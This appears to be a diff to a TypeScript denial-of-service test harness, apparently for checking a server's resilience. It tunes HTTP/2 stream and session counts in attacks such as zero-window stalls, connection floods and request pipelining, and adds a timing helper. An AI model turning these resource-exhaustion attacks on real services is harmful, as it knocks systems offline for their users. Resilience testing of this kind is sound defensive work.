@@ -21,7 +21,8 @@ const FLOOD_BYTES = 64 * 1_048_576;
 const SLOW_CONNECTIONS = 500;
 const STALLED_CONNECTIONS = 20;
 const STALLED_REQUESTS = 500;
-const STREAMS_AT_ONCE = 250;
+const STREAMS_AT_ONCE = 125;
+const SESSIONS_AT_ONCE = 40;
 const PIPELINE = Buffer.from("GET /v1/me HTTP/1.1\r\nhost:v\r\n\r\n".repeat(2_000));
 
 const floods: readonly Attack[] = Object.entries(FLOODS).map(([name, next]) => ({
@@ -42,7 +43,7 @@ const zeroWindow: Attack = {
     );
     const sockets = await open(url, STALLED_CONNECTIONS);
     for (const socket of sockets) socket.write(Buffer.concat([PREFACE, noWindow, ...requests]));
-    await wait(untilAt - performance.now());
+    await waitUntil(untilAt);
     close(sockets);
   },
 };
@@ -51,7 +52,7 @@ const zeroWindow: Attack = {
 const atOnce: Attack = {
   name: "HTTP/2: all streams of all sessions at once",
   run: async ({ url, untilAt }) => {
-    const sockets = await open(url, STALLED_CONNECTIONS);
+    const sockets = await open(url, SESSIONS_AT_ONCE);
     for (const socket of sockets) {
       socket.resume();
       socket.write(Buffer.concat([PREFACE, SETTINGS]));
@@ -132,9 +133,13 @@ export const ATTACKS: readonly Attack[] = [
 
 async function repeat({ untilAt }: Target, once: () => Promise<void>): Promise<void> {
   const attacker = async () => {
-    while (performance.now() < untilAt) await Promise.race([once(), wait(untilAt - performance.now())]);
+    while (performance.now() < untilAt) await Promise.race([once(), waitUntil(untilAt)]);
   };
   await Promise.all(Array.from({ length: ATTACKERS }, attacker));
+}
+
+async function waitUntil(at: number): Promise<void> {
+  await wait(Math.max(at - performance.now(), 0));
 }
 
 async function open(url: string, count: number): Promise<Socket[]> {
